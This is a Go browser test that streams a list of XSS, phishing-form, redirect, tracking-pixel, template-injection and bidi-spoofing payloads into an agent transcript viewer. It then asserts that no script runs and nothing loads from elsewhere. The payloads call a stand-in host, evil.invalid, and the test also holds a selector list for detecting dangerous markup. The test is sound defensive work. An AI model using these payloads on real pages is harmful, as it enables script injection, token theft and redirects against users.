//go:build !race

package browser

import (
	"fmt"
	"strings"
	"testing"
)

// hostileTexts are what an agent, a model or a remote service could write to get something
// run, loaded or believed.
var hostileTexts = []string{
	`<script>window.pwned = "script"</script>`,
	`<img src=x onerror="window.pwned='img'">`,
	`<svg onload="window.pwned='svg'"><animate onbegin="window.pwned='animate'" attributeName=x dur=1s></svg>`,
	`<iframe srcdoc="<script>parent.pwned='frame'</script>"></iframe>`,
	`<details open ontoggle="window.pwned='toggle'">`,
	`<style>body { display: none }</style><link rel=stylesheet href=http://evil.invalid/x.css>`,
	`<form action=http://evil.invalid><input name=token><button>Log in</button></form>`,
	`<base href=http://evil.invalid/><meta http-equiv=refresh content="0;url=http://evil.invalid">`,
	`[click](javascript:window.pwned='link')`,
	`[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)`,
	`[click]( JaVaScRiPt:window.pwned='case' )`,
	`![picture](http://evil.invalid/pixel.png)`,
	`![picture](javascript:window.pwned='picture')`,
	`<http://evil.invalid/"onmouseover="window.pwned='auto'>`,
	"`code`<b onclick=window.pwned=1>`",
	`| a | <img src=x onerror=window.pwned='cell'> |` + "\n|---|---|\n| b | c |",
	"[a]: javascript:window.pwned='reference'\n\n[a]",
	"\u202Egnp.live\u202C and a\u200Bb and \u0000 and \x1b[31mred",
	`</textarea></pre></main><script>window.pwned='escape'</script>`,
	`"><img src=x onerror=window.pwned='attribute'> ' onmouseover='window.pwned=1`,
	`{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}`,
}

// hostileScript has a model say all of it, as text, thinking, in calls and their results.
func hostileScript() string {
	var b strings.Builder
	b.WriteString("rules:\n")
	for i, text := range hostileTexts {
		fmt.Fprintf(&b, "  - { match: '^say %d$', round: 1, reply: [ { thinking: %[2]s, text: %[2]s, "+
			"calls: [ { name: read, arguments: { path: %[2]s } } ] } ] }\n", i, escaped(text))
	}
	b.WriteString("  - { contains: long, reply: [ { text: \"{{repeat 1048576}}\" } ] }\n")
	b.WriteString("  - { reply: [ { text: \"{{.Text}}\" } ] }\n")
	return b.String()
}

// escaped is a text as YAML in which nothing is a template.
func escaped(text string) string {
	return quote(strings.NewReplacer("{{", `{{"{{"}}`).Replace(text))
}

// A hostile transcript is shown as text: nothing runs, nothing is loaded from elsewhere,
// nothing covers the page, and what cannot be seen is named.
func TestHostileTranscript(t *testing.T) {
	t.Parallel()
	script := strings.Replace(hostileScript(), "{{repeat 1048576}}", strings.Repeat("long ", 200_000), 1)
	w := newWorkspace(t, script, "")
	w.start()
	name := `<img src=x onerror="window.pwned='name'">` + "\u202Edlo"
	agent, other := w.agent("plain"), w.agent("other")
	descriptor := ".daycare/agents/" + agent + "/descriptor.json" // the API refuses such a name
	w.write(descriptor, strings.Replace(w.read(descriptor), `"plain"`, quote(name), 1))
	p := newTab(t)
	p.onNew(`window.loaded = [];
		new PerformanceObserver(list => loaded.push(...list.getEntries().map(e => e.name))).observe({ type: "resource", buffered: true });
		window.violations = [];
		addEventListener("securitypolicyviolation", e => violations.push(e.violatedDirective + " " + e.blockedURI));`)
	p.expect("Failed to load resource.*404")
	p.login(w, "/agents/0")
	for i, text := range hostileTexts {
		w.say(agent, fmt.Sprintf("say %d", i)) // it streams into the page
		w.until("it is said", func() bool { return strings.Count(w.history(agent), `"type":"turn_end"`) > i })
		w.say(other, text)
	}
	w.say(agent, "a long one")
	w.until("the long one is said", func() bool { return strings.Count(w.history(agent), `"type":"turn_end"`) > len(hostileTexts) })

	var named struct{ Name string }
	if w.api("GET", "/v1/agents/"+agent, nil, &named); named.Name != name {
		t.Errorf("the agent has the name %q, want %q", named.Name, name)
	}
	for _, path := range []string{"/agents/0", "/agents/1", "/", "/files/0/history.jsonl", "/files/0/descriptor.json", "/costs"} {
		p.goTo(path)
		if path == "/agents/0" {
			p.wait("document.querySelectorAll('main .said').length > 20", "the transcript is shown")
			p.sees("U+202E")
			p.shows(hostileTexts)
		}
		p.harmless(path)
	}
	p.goTo("/agents/0")
	eval[bool](p, `(() => {
		for (const d of document.querySelectorAll("main details")) d.open = true;
		for (const e of document.querySelectorAll("main .said *")) e.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
		return true;
	})()`)
	p.harmless("everything open")
	p.looks("hostile transcript")
	p.size(390, 844)
	p.looks("hostile transcript on a phone")
}

// shows logs how each of the newest texts is shown.
func (p *tab) shows(texts []string) {
	p.t.Helper()
	shown := eval[[]string](p, `[...document.querySelectorAll("main .said")].map(e => e.innerText)
		.filter(t => !/^(say \d+|long long)/.test(t))`)
	for i, text := range texts[max(0, len(texts)-len(shown)):] {
		p.t.Logf("%q is shown as %q", text, shown[i])
	}
	eval[bool](p, "(document.querySelector('main .log').scrollTop = 0, true)")
	p.settled()
	p.keep("hostile")
}

// harmless checks that nothing ran or was loaded.
func (p *tab) harmless(where string) {
	p.t.Helper()
	if ran := eval[string](p, "String(window.pwned)"); ran != "undefined" {
		p.t.Errorf("%s: a script ran: %s", where, ran)
	}
	for _, name := range eval[[]string](p, "loaded") {
		if !strings.HasPrefix(name, p.origin+"/") {
			p.t.Errorf("%s: %s was loaded", where, name)
		}
	}
	for _, v := range eval[[]string](p, "violations") {
		p.t.Errorf("%s: the security policy had to stop something: %s", where, v)
	}
	found := eval[[]string](p, `[...document.querySelectorAll("script:not([src]), iframe, object, embed, base, style, " +
		"meta[http-equiv], form[action], img:not([src^='data:']), [onerror], [onload], [onclick], [ontoggle], " +
		"a[href^='javascript:' i], a[href^='data:' i]")].map(e => e.outerHTML.slice(0, 120))`)
	for _, html := range found {
		p.t.Errorf("%s: the page has %s", where, html)
	}
	links := eval[[]string](p, `[...document.querySelectorAll("main .said a[href]")]
		.filter(a => !/noopener/.test(a.rel) || !/^(https?|mailto):/.test(a.href)).map(a => a.outerHTML)`)
	for _, link := range links {
		p.t.Errorf("%s: a link that is not safe: %s", where, link)
	}
}
